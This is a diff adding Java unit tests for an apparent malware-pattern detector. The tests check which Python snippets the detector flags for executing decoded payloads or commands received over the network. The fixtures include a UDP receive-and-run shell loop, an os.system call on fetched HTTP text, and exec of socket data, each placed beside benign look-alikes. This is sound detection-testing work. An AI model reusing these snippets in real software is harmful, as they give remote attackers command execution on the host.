@@ -52,6 +52,31 @@ class FlowsTest {
     }
 
     @Test
+    void helperFunctionsDecodeOnlyWhatFoldingLeft() {
+        // benign, obfuscated: the helper's own literal was encoded, it folds back; what it returns is a file's text
+        String encodedLiteral = lines("import base64",
+                "def _read(path):",
+                "    with open(path, base64.b64decode('cmI=').decode()) as f:",
+                "        return f.read()",
+                "code = _read('checker.py')",
+                "exec(compile(code, 'checker.py', 'exec'))");
+        assertThat(sites(encodedLiteral, Kind.EXEC_RUNTIME_DECODED)).isEmpty();
+        // the same helper decoding what it is given does decode at run time, called before or after it is defined
+        String decoding = lines("import base64",
+                "def _read(path):",
+                "    with open(path, 'rb') as f:",
+                "        return base64.b64decode(f.read())",
+                "code = _read('blob.bin')",
+                "exec(compile(code, 'x', 'exec'))");
+        assertThat(sites(decoding, Kind.EXEC_RUNTIME_DECODED)).isNotEmpty().allSatisfy(f -> {   // exec and compile
+            assertThat(f.line()).isEqualTo(6);
+            assertThat(f.onLoad()).isTrue();
+        });
+        String direct = lines("import zlib", "def unpack(b):", "    return zlib.decompress(b)", "exec(unpack(open('z', 'rb').read()))");
+        assertThat(sites(direct, Kind.EXEC_RUNTIME_DECODED)).singleElement().satisfies(f -> assertThat(f.line()).isEqualTo(4));
+    }
+
+    @Test
     void runningTheFileJustDownloadedOrWritten() {
         String bad = lines("import os, urllib.request",
                 "def drop(url):",
@@ -77,6 +102,36 @@ class FlowsTest {
                 "    subprocess.run(['make', 'all'])");
         assertThat(sites(benign, Kind.RUN_WRITTEN_FILE)).isEmpty();
         assertThat(sites(benign, Kind.RUN_DOWNLOADED_FILE)).isEmpty();
+    }
+
+    @Test
+    void commandsReceivedFromTheNetworkAreRun() {
+        String udpShell = lines("from socket import socket, AF_INET, SOCK_DGRAM",
+                "from subprocess import run, PIPE",
+                "while True:",
+                "    sock = socket(AF_INET, SOCK_DGRAM)",
+                "    command, _ = sock.recvfrom(65535)",
+                "    command = command.decode()",
+                "    p = run(command, shell=True, stdout=PIPE)");
+        assertThat(sites(udpShell, Kind.RUN_RECEIVED)).singleElement().satisfies(f -> {
+            assertThat(f.line()).isEqualTo(7);
+            assertThat(f.onLoad()).isTrue();
+        });
+        String c2 = lines("import os, requests", "def poll(url):", "    os.system(requests.get(url).text)");
+        assertThat(sites(c2, Kind.RUN_RECEIVED)).singleElement().satisfies(f -> assertThat(f.onLoad()).isFalse());
+        assertThat(sites(lines("import socket", "s = socket.create_connection(('h', 1))", "exec(s.recv(4096))"),
+                Kind.RUN_RECEIVED)).hasSize(1);
+        // benign look-alikes: a constant command beside a receive, and fetched data that is only printed
+        String benign = lines("import socket, subprocess, requests",
+                "def serve(conn):",
+                "    data = conn.recv(1024)",
+                "    subprocess.run(['git', 'status'])",
+                "    conn.sendall(data)",
+                "def latest(url, name):",
+                "    version = requests.get(url).json()['version']",
+                "    print(version)",
+                "    subprocess.run(['pip', 'download', name])");
+        assertThat(sites(benign, Kind.RUN_RECEIVED)).isEmpty();
     }
 
     @Test
